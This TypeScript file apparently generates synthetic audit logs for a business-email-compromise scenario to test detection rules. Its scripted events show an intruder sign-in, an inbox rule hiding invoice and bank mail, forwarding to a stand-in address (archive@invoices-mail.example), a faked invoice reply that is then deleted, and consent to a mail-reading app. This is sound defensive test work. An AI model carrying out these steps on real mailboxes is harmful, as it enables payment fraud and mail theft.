/** Business-mail compromise: a sign-in from another continent minutes after one from the office, a rule that hides replies, a forward, a false invoice. */
import { activity, homeOf, parameters, places, signIn } from '../events/cloud.ts';
import { devicesWith } from '../fleet.ts';
import { peopleAt } from '../people.ts';
import { createStoryBuilder, type Story } from './story.ts';

export const mailCompromise: Story = {
  name: 'mailCompromise',
  title: 'Business-mail compromise',
  ending: 'malicious',
  techniques: ['T1078.004', 'T1114.002', 'T1564.008', 'T1114.003', 'T1534'],
  keyRules: [
    'entra/sign-ins-from-several-countries',
    'entra/risky-sign-in-succeeded',
    'm365/inbox-rule-forwards-or-hides',
    'm365/mailbox-forwarding-set',
    'm365/consent-to-application',
  ],
  build(stage) {
    const { site, random } = stage;
    const { on, events } = createStoryBuilder(stage);
    const victim = random.pick(peopleAt(site.organisationId).slice(3));
    const [directory] = devicesWith(site.organisationId, 'directory');
    const [mail] = devicesWith(site.organisationId, 'office');
    const onDirectory = on(directory!, victim);
    const place = random.pick([places.lagos, places.bucharest, places.singapore]);
    const intruder = `203.0.113.${random.int(170, 190)}`;
    const exchange = (operation: string, more: Record<string, unknown>, object?: string) => (minutes: number) =>
      on(mail!, victim)(minutes, (scene) =>
        activity(scene, {
          workload: 'Exchange',
          operation,
          user: victim.email,
          from: intruder,
          result: 'True',
          ...(object && { object }),
          more,
        }),
      );

    onDirectory(0, (scene) => signIn(scene, { person: victim, from: site.publicAddress, place: homeOf(site.organisationId) }));
    onDirectory(19, (scene) => signIn(scene, { person: victim, from: intruder, place, error: 50126 }));
    onDirectory(23, (scene) =>
      signIn(scene, {
        person: victim,
        from: intruder,
        place,
        risk: 'high',
        riskEvents: ['unlikelyTravel', 'unfamiliarFeatures'],
        isSingleFactor: true,
        userAgent: 'axios/1.7.7',
        operatingSystem: '',
      }),
    );
    for (let index = 0; index < 4; index++)
      exchange('MailItemsAccessed', {
        OperationProperties: parameters({ MailAccessType: 'Bind' }),
        ClientInfoString: 'Client=REST;Client=RESTSystem;;',
      })(27 + index * 3);
    exchange(
      'New-InboxRule',
      {
        Parameters: parameters({
          Name: '.',
          SubjectOrBodyContainsWords: 'invoice;payment;bank',
          MoveToFolder: 'RSS Feeds',
          MarkAsRead: 'True',
          StopProcessingRules: 'True',
        }),
        ClientAppId: '',
      },
      `${victim.email}\\.`,
    )(41);
    exchange(
      'Set-Mailbox',
      {
        Parameters: parameters({
          Identity: victim.account,
          ForwardingSmtpAddress: 'smtp:archive@invoices-mail.example',
          DeliverToMailboxAndForward: 'True',
        }),
      },
      victim.email,
    )(48);
    exchange('Send', {
      Item: { Subject: 'RE: Updated bank details for invoice 20714', Attachments: 'Invoice-20714.pdf (88120b)' },
    })(63);
    exchange('HardDelete', {
      AffectedItems: [{ Subject: 'RE: Updated bank details for invoice 20714' }],
      Folder: { Path: '\\Sent Items' },
    })(64);
    onDirectory(90, (scene) =>
      activity(scene, {
        workload: 'AzureActiveDirectory',
        operation: 'Consent to application.',
        user: victim.email,
        from: intruder,
        object: 'PDF Mail Assistant',
        more: {
          ModifiedProperties: [
            { Name: 'ConsentContext.IsAdminConsent', NewValue: 'False', OldValue: '' },
            {
              Name: 'ConsentAction.Permissions',
              NewValue:
                '[] => [[Id: , ClientId: , ConsentType: Principal, Scope: Mail.Read Mail.Send offline_access, CreatedDateTime: , LastModifiedDateTime ]];',
              OldValue: '',
            },
          ],
          Target: [{ ID: 'PDF Mail Assistant', Type: 1 }],
        },
      }),
    );
    return events;
  },
};
